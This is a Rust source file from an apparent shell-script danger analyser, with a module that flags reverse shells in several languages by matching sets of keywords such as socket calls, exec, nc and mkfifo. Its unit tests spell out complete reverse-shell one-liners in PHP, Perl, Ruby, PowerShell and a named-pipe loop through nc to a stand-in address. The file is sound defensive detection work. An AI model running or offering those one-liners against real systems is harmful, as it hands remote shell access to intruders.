//! Shells handed to a network connection, in the shapes besides `nc -e`, `socat exec:` and
//! `/dev/tcp`: a socket wired to a process in Python, PHP, Perl, Ruby, PowerShell, awk and
//! Lua, and a named pipe that loops a shell through `nc`. Each shape is a set of words that
//! must all be in the script; a socket alone polls a port, a shell alone runs a command.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::{DangerKind, push};
use crate::analysis::shell::danger::Danger;

/// Every anchor of [`SHAPES`], found in one pass.
static ANCHORS: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| AhoCorasick::new(SHAPES.iter().flat_map(|s| s.anchor.iter().copied())).ok());

/// One shape: the word reported, and groups of words of which the script must hold one
/// each.
struct Shape {
    anchor: &'static [&'static str],
    also: &'static [&'static [&'static str]],
    what: &'static str,
}

const SHAPES: &[Shape] = &[
    // Python: the socket's descriptor handed to the process (`os.dup2(s.fileno(), 0)`,
    // `stdin=s.fileno()`); a socket beside `subprocess` polls a port.
    Shape {
        anchor: &["os.dup2", "pty.spawn", "subprocess"],
        also: &[
            &["import socket", "socket.socket", "socket,"],
            &["connect"],
            &["fileno()"],
        ],
        what: "a socket wired to a process",
    },
    Shape {
        anchor: &["fsockopen"],
        also: &[&[
            "exec(",
            "system(",
            "shell_exec(",
            "passthru(",
            "popen(",
            "proc_open(",
            "/bin/sh",
            "/bin/bash",
        ]],
        what: "a PHP socket wired to a shell",
    },
    Shape {
        anchor: &["use Socket", "IO::Socket"],
        also: &[&["connect"], &["open(STDIN", "exec(", "exec \"", "system("]],
        what: "a Perl socket wired to a shell",
    },
    Shape {
        anchor: &["TCPSocket"],
        also: &[&["exec", "spawn", "IO.popen", "/bin/sh", "/bin/bash"]],
        what: "a Ruby socket wired to a shell",
    },
    Shape {
        anchor: &[
            "Net.Sockets.TCPClient",
            "net.sockets.tcpclient",
            "Net.Sockets.TcpClient",
        ],
        also: &[
            &["GetStream"],
            &["iex", "Invoke-Expression", "invoke-expression", "IEX"],
        ],
        what: "a PowerShell socket whose input is run",
    },
    Shape {
        anchor: &["/inet/tcp/", "/inet/udp/"],
        also: &[&["|&", "getline"]],
        what: "an awk socket wired to a shell",
    },
    Shape {
        anchor: &["socket.tcp"],
        also: &[&["io.popen", "os.execute"], &["connect"]],
        what: "a Lua socket wired to a shell",
    },
    // `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`.
    Shape {
        anchor: &["mkfifo", "mknod"],
        also: &[
            &["nc ", "ncat ", "netcat ", "telnet ", "s_client", "socat "],
            &[
                "sh -i",
                "bash -i",
                "/bin/sh",
                "/bin/bash",
                "| sh",
                "|sh",
                "| bash",
                "|bash",
            ],
        ],
        what: "a named pipe looping a shell through the network",
    },
];

/// Every shape of socket shell `script` holds, reported at its anchor.
pub(super) fn socket_shells(script: &str, out: &mut Vec<Danger>) {
    // One pass for every anchor first: most scripts (an argument, a package name) hold
    // none, and searching for each word in turn was most of the time of a file of many
    // small commands.
    if !ANCHORS.as_ref().is_none_or(|a| a.is_match(script)) {
        return;
    }
    for shape in SHAPES {
        let Some((at, w)) = shape
            .anchor
            .iter()
            .find_map(|w| script.find(w).map(|at| (at, *w)))
        else {
            continue;
        };
        if shape
            .also
            .iter()
            .all(|group| group.iter().any(|w| script.contains(w)))
        {
            push(out, at, at + w.len(), DangerKind::ReverseShell, shape.what);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(script: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        socket_shells(script, &mut out);
        out.iter()
            .map(|d| {
                SHAPES
                    .iter()
                    .find(|s| s.what == d.what)
                    .map_or("", |s| s.what)
            })
            .collect()
    }

    #[test]
    fn shells_on_sockets_in_every_language() {
        assert_eq!(
            found("php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'")
                .len(),
            1
        );
        assert_eq!(found("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$a)){open(STDIN,\">&S\");exec(\"/bin/sh -i\");}'").len(), 1);
        assert_eq!(found("ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'").len(), 1);
        assert_eq!(found("$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s = $c.GetStream();iex $d").len(), 1);
        assert_eq!(
            found("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f")
                .len(),
            1
        );
    }

    #[test]
    fn sockets_and_pipes_that_run_no_shell() {
        assert!(found("$s = fsockopen($host, 80); fwrite($s, $req);").is_empty());
        assert!(found("mkfifo /tmp/progress; tail -f /tmp/progress").is_empty());
        assert!(
            found("$c = New-Object System.Net.Sockets.TCPClient($h, 443); $c.Connected").is_empty()
        );
    }
}
